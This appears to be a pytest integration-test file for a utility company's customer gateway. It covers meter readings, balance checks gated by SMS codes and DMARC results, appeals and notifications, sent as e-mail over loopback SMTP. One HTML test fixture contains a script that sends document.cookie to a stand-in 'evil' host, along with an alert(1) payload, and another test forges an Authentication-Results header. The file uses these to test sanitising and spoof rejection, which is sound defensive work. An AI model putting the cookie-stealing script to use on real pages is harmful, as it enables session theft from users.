"""The whole gateway with e-mail on, over real SMTP on loopback: Python's smtplib plays
the company mail server relaying customers' mail to us, an aiosmtpd server plays the
company relay our replies leave through, the development SMSC takes the SMS codes.
Readings, balance after identification (SMS code; the relay's DMARC verdict), an appeal
and its staff answer in the customer's thread, and the bad inputs: a mail loop, an HTML
mail with a script, a forged Authentication-Results, malformed MIME, a redelivery."""

from __future__ import annotations

import argparse
import asyncio
import io
import json
import re
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from email.message import EmailMessage
from pathlib import Path

import pytest

from bot.app import Gateway
from bot.cli_appeals import cmd_answer
from bot.settings import load_settings
from mail_gateway.channel import EmailChannel
from notifications.campaigns import OutageRequest
from storage.export import export_readings
from storage.registry import import_customers
from tests.mail_gateway.relay import RelaySink, body, smtp_send

OURS = "info@retailer.example"
AUTHSERV = "mx.retailer.example"
VOUCHED = f"{AUTHSERV}; spf=pass smtp.mailfrom=mail.ru; dmarc=pass header.from=mail.ru"
IVAN = "ivan.petrov@mail.ru"
REGISTRY = (
    "account;phones;name;settlement;street;house;apartment;meter_serial;zones;digits;"
    "last_t1;last_t2;last_t3;last_date;balance;emails\n"
    "1234567890;+7 912 123-45-67;Иванов Иван Петрович;г. Сыктывкар;ул. Коммунистическая;"
    f"10;12;011234567;2;5;4390;1815;;2026-10-24;1234,56;{IVAN.upper()}|ivan@work.example\n"
)


@pytest.fixture
async def world(tmp_path: Path) -> AsyncIterator[tuple[Gateway, RelaySink, int]]:
    async with RelaySink() as relay:
        cfg = tmp_path / "s.toml"
        cfg.write_text(
            f'[storage]\npath = "{tmp_path / "g.db"}"\n'
            "[smpp]\nport = 0\n[api]\nport = 0\n"
            f'[email]\nenabled = true\naddress = "{OURS}"\nlisten_port = 0\n'
            f'smtp_host = "127.0.0.1"\nsmtp_port = {relay.port}\nsmtp_starttls = false\n'
            f'authserv_id = "{AUTHSERV}"\nanswers_per_hour = 4\nrate = 100\n'
            # No quiet hours: the notices below go whenever the test runs.
            '[notifications]\nquiet_hours = "00:00-00:00"\n',
            encoding="utf-8",
        )
        async with Gateway(load_settings(cfg)) as gw:
            assert gw.store is not None
            await import_customers(gw.store.db, REGISTRY.encode())
            channel = gw.channels["email"]
            assert isinstance(channel, EmailChannel)
            yield gw, relay, channel.port


_ids = iter(range(1, 10_000))


def mail(text: str, sender: str = "Иван Петров <ivan.petrov@mail.ru>", *,
         subject: str = "Показания", html: str | None = None, **headers: str) -> EmailMessage:
    msg = EmailMessage()
    msg["From"] = sender
    msg["To"] = f"ЭнергоСбыт <{OURS}>"
    msg["Subject"] = subject
    msg["Message-ID"] = headers.pop("Message_ID", f"<c{next(_ids)}@mail.ru>")
    for key, value in headers.items():
        msg[key.replace("_", "-")] = value
    if html is None:
        msg.set_content(text)
    else:
        msg.set_content(html, subtype="html")
    return msg


async def converse(world: tuple[Gateway, RelaySink, int], msg: EmailMessage) -> EmailMessage:
    """Deliver a customer's mail and wait for our one reply in its thread."""
    _, relay, port = world
    await smtp_send(port, msg.as_bytes(), mail_from=_addr(msg), to=[OURS])
    mid = str(msg["Message-ID"])
    await relay.wait_for(lambda: any(m["In-Reply-To"] == mid for m in relay.received))
    [reply] = [m for m in relay.received if m["In-Reply-To"] == mid]
    return reply


def _addr(msg: EmailMessage) -> str:
    return str(msg["From"]).rpartition("<")[2].rstrip(">") or str(msg["From"])


async def settled(gw: Gateway) -> None:
    """Every inbound mail handled and nothing left to send (bounded)."""
    assert gw.engine is not None
    assert gw.store is not None
    await gw.engine.drain(10)
    async with asyncio.timeout(15):
        # The running sender owns the rows; their state is in the database only.
        while await gw.store.db.fetchval(  # noqa: ASYNC110
            "SELECT count(*) FROM outbox WHERE status IN ('queued', 'sending')"
        ):
            await asyncio.sleep(0.05)


async def test_readings_reply_in_the_thread_and_reach_the_export(
    world: tuple[Gateway, RelaySink, int],
) -> None:
    gw, _, _ = world
    msg = mail("ЛС 1234567890 день 4521 ночь 1876\n\n--\nИван Петров\nтел. 89121234567",
               References="<older@mail.ru>", Authentication_Results=VOUCHED)
    reply = await converse(world, msg)
    assert "Приняты показания ЛС 1234567890" in body(reply), body(reply)
    assert reply["Subject"] == "Re: Показания"
    assert str(reply["References"]).split() == ["<older@mail.ru>", str(msg["Message-ID"])]
    assert reply["Auto-Submitted"] == "auto-replied"
    assert str(reply["From"]).endswith(f"<{OURS}>")
    assert gw.store is not None
    out = io.StringIO()
    await export_readings(gw.store.db, out=out, tz=gw.settings.service.tz)
    rows = {(r["account"], r["zone"], r["value"], r["channel"], r["sender"])
            for r in map(json.loads, out.getvalue().splitlines())}
    assert rows == {("1234567890", "T1", "4521", "email", IVAN),
                    ("1234567890", "T2", "1876", "email", IVAN)}


async def test_readings_from_an_unvouched_address_wait_for_staff(
    world: tuple[Gateway, RelaySink, int],
) -> None:
    reply = body(await converse(world, mail("ЛС 1234567890 день 4521 ночь 1876")))
    assert "не подтверждена как адрес из договора" in reply, reply
    assert "4390" not in reply  # nothing of the account is quoted


async def test_balance_after_an_sms_code(world: tuple[Gateway, RelaySink, int]) -> None:
    gw, _, _ = world
    # A mail without our relay's verdict is unlinked, however right its address.
    denied = body(await converse(world, mail("баланс", subject="Баланс")))
    assert "1 234" not in denied
    assert "код по SMS" in denied
    sent = body(await converse(world, mail("+7 912 123-45-67", subject="Re: Баланс")))
    assert "+7912***4567" in sent
    assert gw.simulator is not None
    [sms] = await gw.simulator.wait_messages("+79121234567", 1, within=10)
    code = re.search(r"\b(\d{6})\b", sms)
    assert code is not None, sms
    # The code comes back as a reply, over the quoted earlier mail.
    answer = (f"{code[1]}\n\nпн, 1 дек. 2026 г. в 10:00, ЭнергоСбыт <{OURS}>:\n"
              f"> Если номер +7912***4567 указан в договоре, на него придёт SMS с кодом 000000.")
    linked = body(await converse(world, mail(answer, subject="Re: Баланс")))
    assert "привязан" in linked, linked
    balance = body(await converse(world, mail("баланс", subject="Re: Баланс")))
    assert "задолженность 1\u00a0234,56 руб." in balance, balance


@pytest.mark.parametrize(
    ("results", "shown"),
    [
        (f"{AUTHSERV}; spf=pass smtp.mailfrom=mail.ru; dmarc=pass header.from=mail.ru", True),
        (f"{AUTHSERV}; dmarc=fail header.from=mail.ru", False),
        # forged by the sender: not our relay's authserv-id
        ("mx.evil.example; dmarc=pass header.from=mail.ru", False),
    ],
)
async def test_balance_by_the_relays_dmarc_verdict(
    world: tuple[Gateway, RelaySink, int], results: str, shown: bool
) -> None:
    text = body(await converse(world, mail("баланс", Authentication_Results=results)))
    assert ("задолженность 1\u00a0234,56 руб." in text) is shown, text


async def test_appeal_and_staff_answer_in_the_customers_thread(
    world: tuple[Gateway, RelaySink, int],
) -> None:
    gw, relay, _ = world
    msg = mail("Добрый день! Нет света на ул. Коммунистическая 10 с утра.\n\nС уважением, Иван",
               subject="Нет света")
    created = body(await converse(world, msg))
    ticket = re.search(r"№(\d+)", created)
    assert ticket is not None, created
    args = argparse.Namespace(id=int(ticket[1]), text=["Линию", "починили."], staff="op")
    assert await cmd_answer(args, gw.settings) == 0
    mid = str(msg["Message-ID"])
    await relay.wait_for(
        lambda: sum(m["In-Reply-To"] == mid for m in relay.received) == 2, within=15)
    answer = [m for m in relay.received if m["In-Reply-To"] == mid][-1]
    assert "Линию починили." in body(answer)
    assert answer["Subject"] == "Re: Нет света"
    assert str(answer["References"]).split()[-1] == mid


async def test_a_redelivered_mail_is_answered_once(
    world: tuple[Gateway, RelaySink, int],
) -> None:
    gw, relay, port = world
    msg = mail("ЛС 1234567890 день 4530 ночь 1880")
    await converse(world, msg)
    await smtp_send(port, msg.as_bytes(), mail_from=IVAN, to=[OURS])  # the relay retried
    await settled(gw)
    assert sum(m["In-Reply-To"] == msg["Message-ID"] for m in relay.received) == 1


async def test_html_mail_with_a_script(world: tuple[Gateway, RelaySink, int]) -> None:
    gw, _, _ = world
    html = ("<html><head><script>fetch('http://evil/'+document.cookie)</script></head>"
            "<body><p>ЛС 1234567890</p><p>день 4540 ночь 1890</p>"
            "<script>alert(1)</script></body></html>")
    reply = body(await converse(world, mail("", html=html, Authentication_Results=VOUCHED)))
    assert "Приняты показания ЛС 1234567890" in reply, reply
    assert gw.store is not None
    payloads = " ".join(str(r[0]) for r in await gw.store.db.fetchall(
        "SELECT payload FROM inbound"))
    assert "evil" not in payloads
    assert "alert" not in payloads


async def test_attachment_only_and_broken_mime_get_an_answer(
    world: tuple[Gateway, RelaySink, int],
) -> None:
    gw, relay, port = world
    raw = (f"From: {IVAN}\r\nTo: {OURS}\r\nMessage-ID: <broken@mail.ru>\r\nSubject: Фото\r\n"
           "Content-Type: multipart/mixed; boundary=zz\r\n\r\n--zz\r\n"
           "Content-Type: image/jpeg\r\nContent-Disposition: attachment; filename=m.jpg\r\n"
           "Content-Transfer-Encoding: base64\r\n\r\n!!not base64\r\n").encode()  # no end
    await smtp_send(port, raw, mail_from=IVAN, to=[OURS])
    await relay.wait_for(lambda: any(m["In-Reply-To"] == "<broken@mail.ru>"
                                     for m in relay.received))
    [reply] = [m for m in relay.received if m["In-Reply-To"] == "<broken@mail.ru>"]
    # An attachment alone goes to a person, and the customer hears by when (the inbox).
    assert "передано специалисту" in body(reply)


async def test_a_mail_loop_between_two_auto_responders_ends(
    world: tuple[Gateway, RelaySink, int],
) -> None:
    gw, relay, port = world
    # A well-behaved auto-responder marks its mail: never answered at all.
    polite = mail("Я в отпуске до 10 декабря.", "Vacation <boss@corp.example>",
                  subject="Автоответ: Показания", Auto_Submitted="auto-replied")
    await smtp_send(port, polite.as_bytes(), mail_from="boss@corp.example", to=[OURS])
    # A naive one marks nothing and answers every mail it gets, ours included.
    robot = "robot@naive.example"
    await smtp_send(port, mail("Ваше письмо получено.", robot).as_bytes(),
                    mail_from=robot, to=[OURS])
    answered = 0
    for _ in range(20):  # bounded: the loop must end well before
        await settled(gw)
        ours = relay.to(robot)
        if len(ours) == answered:
            break
        for reply in ours[answered:]:
            echo = mail("Ваше письмо получено.", robot, subject=f"Re: {reply['Subject']}",
                        In_Reply_To=str(reply["Message-ID"]))
            await smtp_send(port, echo.as_bytes(), mail_from=robot, to=[OURS])
        answered = len(ours)
    assert relay.to("boss@corp.example") == []
    # The robot's mail is nothing the bot can act on: it goes to a person once, and the
    # customer is told once per inbox item, so its echoes join the item unanswered. The
    # channel's own cap (`answers_per_hour`, tests/mail_gateway) is the second guard.
    assert answered == 1


async def test_healthz_names_the_channel(world: tuple[Gateway, RelaySink, int]) -> None:
    gw, _, _ = world
    ok, health = await gw.health()
    assert ok, health
    assert "email" in health["channels"]


async def test_notices_follow_the_persons_choice(
    world: tuple[Gateway, RelaySink, int],
) -> None:
    gw, relay, _ = world
    assert gw.notifications is not None
    assert gw.simulator is not None
    vouched = f"{AUTHSERV}; dmarc=pass header.from=mail.ru"
    chose = body(await converse(world, mail("Уведомления по почте, пожалуйста",
                                            Authentication_Results=vouched)))
    assert "на почту i***@mail.ru" in chose, chose
    # An outage at Ivan's house: his notice by e-mail (the full text), the neighbour's by SMS.
    now = datetime.now(UTC)
    outage = OutageRequest("Сыктывкар", "авария на линии", now, now + timedelta(hours=6),
                           street="Коммунистическая", houses="10")
    report = await gw.notifications.outage(outage, yes=True)
    assert report.as_json()["by_channel"]["email"] == 1
    await relay.wait_for(lambda: any("авария на линии" in body(m) for m in relay.to(IVAN)))
    [notice] = [m for m in relay.to(IVAN) if "авария на линии" in body(m)]
    assert notice["In-Reply-To"] is None
    assert notice["Auto-Submitted"] == "auto-generated"
    [neighbour] = await gw.simulator.wait_messages("+79042001122", 1, within=10)
    assert "авария на линии" in neighbour
    # A debt warning: by SMS always (the legal notice), and a copy by e-mail.
    debts = b"account;amount;restriction_date\n1234567890;1234,56;2026-12-25\n"
    await gw.notifications.import_debts(debts, name="debts.csv")
    [sms] = await gw.simulator.wait_messages("+79121234567", 1, within=10)
    assert "ЛС 1234567890" in sms
    # the e-mail copy carries the full text (no SMS abbreviations)
    await relay.wait_for(lambda: any("Задолженность по ЛС 1234567890" in body(m)
                                     for m in relay.to(IVAN)))
    # The relay refuses the address for good: the next notice comes by SMS instead.
    relay.refuse.append("550 5.1.1 No such user")
    outage = OutageRequest("Сыктывкар", "повреждение кабеля", now, now + timedelta(hours=6),
                           street="Коммунистическая", houses="10")
    await gw.notifications.outage(outage, yes=True)
    texts = await gw.simulator.wait_messages("+79121234567", 2, within=15)
    assert "повреждение кабеля" in texts[-1]
    assert not any("повреждение кабеля" in body(m) for m in relay.received)


async def test_a_person_answers_an_email_in_its_thread(
    world: tuple[Gateway, RelaySink, int],
) -> None:
    from bot.answers import OutboxAnswers
    from handlers import inbox

    gw, relay, port = world
    raw = (f"From: {IVAN}\r\nTo: {OURS}\r\nMessage-ID: <q1@mail.ru>\r\nSubject: Вопрос\r\n"
           "Content-Type: text/plain; charset=utf-8\r\n\r\nывапролд\r\n").encode()
    await smtp_send(port, raw, mail_from=IVAN, to=[OURS])
    await relay.wait_for(lambda: any(m["In-Reply-To"] == "<q1@mail.ru>" for m in relay.received))
    assert gw.store is not None
    [item] = await inbox.list_items(gw.store)
    assert item.channel == "email"
    before = len(relay.received)
    assert gw.sender is not None
    await inbox.reply(gw.store, OutboxAnswers(gw.store, gw.sender.wake), item.id,
                      "Здравствуйте! Ответ специалиста.", actor="anna")
    await relay.wait_for(lambda: len(relay.received) > before)
    answer = relay.received[-1]
    assert "Ответ специалиста" in body(answer)
    assert answer["In-Reply-To"] == "<q1@mail.ru>"  # the customer's thread is kept
